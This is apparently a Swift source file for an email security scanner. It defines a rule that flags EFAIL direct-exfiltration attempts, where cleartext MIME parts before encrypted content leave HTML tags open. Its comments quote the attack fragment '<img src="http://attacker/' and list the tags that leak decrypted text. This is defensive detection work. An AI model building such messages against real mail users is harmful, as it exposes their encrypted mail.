import MIMEKit

/// EF-DE-HTMLOPEN: cleartext before an encrypted part leaves an HTML context open.
///
/// The working EFAIL direct-exfiltration message (Poddebniak et al., USENIX Security 2018,
/// §4.1) opens `<img src="http://attacker/` in a part before the ciphertext and closes it
/// after, so the decrypted plaintext becomes part of a URL; `<plaintext>`, `<textarea>`,
/// `<xmp>`, `<style>`, `<form>`, an open CSS `url(` and `<base>` serve the same purpose
/// (§6). The rule looks at the cleartext text parts that come before an encrypted part that
/// is not the root, and at the text before an inline PGP block in the same part.
public struct DirectExfiltrationOpenContextRule: ScanRule {
    public var id: String { "EF-DE-HTMLOPEN" }
    public var severity: ScanSeverity { .critical }
    public var title: String { "Cleartext before an encrypted part leaves an HTML context open" }
    public var explanation: String {
        """
        A text or HTML part placed before encrypted content ends inside an unclosed tag, \
        quoted attribute, <plaintext>, <textarea>, <xmp>, <style>, <form>, CSS url( or sets \
        <base>: whatever follows — the decrypted plaintext — becomes part of a URL or form \
        the client sends out (EFAIL direct exfiltration; Poddebniak et al., USENIX Security \
        2018, §4.1 and §6). Legitimate senders never produce this; mail clients should \
        render decrypted parts in isolation and never concatenate parts into one document.
        """
    }

    public init() {}

    public func check(_ context: ScanContext) -> [Finding] {
        var findings: [Finding] = []
        var seen: Set<Int> = []
        for part in context.encryptedParts {
            if part.kind == .pgpInlineEncrypted {
                let armor = context.armor(of: part.entity)
                if let first = armor.scan.blocks.first(where: { $0.kind == .message }) {
                    let before = prefix(of: part.entity, to: first.range.lowerBound, armor: armor, context: context)
                    let reasons = HTMLOpenContext.openContexts(in: before)
                    if !reasons.isEmpty {
                        findings.append(finding(part.entity, "text before the PGP block leaves " + reasons.joined(separator: "; ")))
                    }
                }
            }
            guard context.misplacement(of: part.entity, allowSignedWrapper: true) != nil else { continue }
            for leaf in context.cleartextLeaves(before: part.entity) where seen.insert(leaf.offsets.start).inserted {
                let text = context.text(of: leaf)
                guard leaf.contentType.subtype == "html" || ByteSearch.contains("<", in: text) else { continue }
                let reasons = HTMLOpenContext.openContexts(in: text)
                if !reasons.isEmpty {
                    findings.append(finding(leaf, "part \(leaf.id) (\(leaf.contentType.mimeType)) before \(part.label) \(part.entity.id) leaves "
                                            + reasons.joined(separator: "; ")))
                }
            }
        }
        return findings
    }

    private func prefix(of entity: MIMEEntity, to offset: Int, armor: ArmorView, context: ScanContext) -> [UInt8] {
        if let text = armor.text { return Array(text[..<offset]) }
        let start = entity.offsets.bodyStart
        return entity.body[start..<max(start, offset)].bytes
    }
}
